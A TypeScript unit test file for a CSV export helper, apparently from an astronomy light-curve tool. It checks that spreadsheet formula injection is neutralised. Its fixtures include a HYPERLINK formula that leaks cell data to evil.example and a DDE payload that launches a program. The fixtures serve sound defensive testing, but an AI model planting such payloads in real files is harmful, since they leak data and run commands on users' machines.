// CSV for spreadsheets (src/lib/csv.ts): RFC 4180 quoting, and text that a spreadsheet would run as a
// formula (a cell starting with = + - @, a tab or a carriage return) is made inert with a leading '.
// Numbers are written as they are, negative ones included. Used by the light curve and the audit and
// usage reports.
import { test } from 'tap'
import { toCsv } from '../../src/lib/csv.js'
import { lightCurveCsv } from '../../src/render/lightcurve.js'

test('text that would be a formula is made inert; numbers and plain text are kept', async (t) => {
  const rows = [
    { v: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
    { v: "+cmd|' /C calc'!A0" },
    { v: '-2+3' },
    { v: '@SUM(1+1)' },
    { v: '\tx' },
    { v: '\rx' },
    { v: -1.5 },
    { v: '1161600211221604900' },
    { v: 'a,b' },
    { v: null }
  ]
  const lines = toCsv(['v'], rows, (r) => r.v).split('\r\n')
  t.same(lines.slice(0, -1), [
    'v',
    '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
    '"\'+cmd|\' /C calc\'!A0"',
    '"\'-2+3"',
    '"\'@SUM(1+1)"',
    '"\'\tx"',
    '"\'\rx"',
    '-1.5',
    '1161600211221604900',
    '"a,b"',
    ''
  ])
})

test('the light curve CSV: an exposure name that is a formula is inert; negative fluxes stay numbers', async (t) => {
  const csv = lightCurveCsv({
    id: '1161600211221604900',
    name: 'ATLAS18qqn',
    other_name: null,
    points: [
      { kind: 'forced', mjd: 60001.5, filter: 'o', mag: null, mag_err: null, flux_ujy: -12.5, flux_err_ujy: 3, exposure: '=1+1' },
      { kind: 'detection', mjd: 60002.5, filter: '@x', mag: 18, mag_err: 0.1, flux_ujy: null, flux_err_ujy: null, exposure: '02a60001o0001c' }
    ]
  })
  const [, forced, detection] = csv.split('\r\n')
  t.match(forced, /,-12\.5,3,"'=1\+1"$/)
  t.match(detection, /^detection,60002\.5,[0-9-]+,"'@x",18,0\.1,,,02a60001o0001c$/)
})
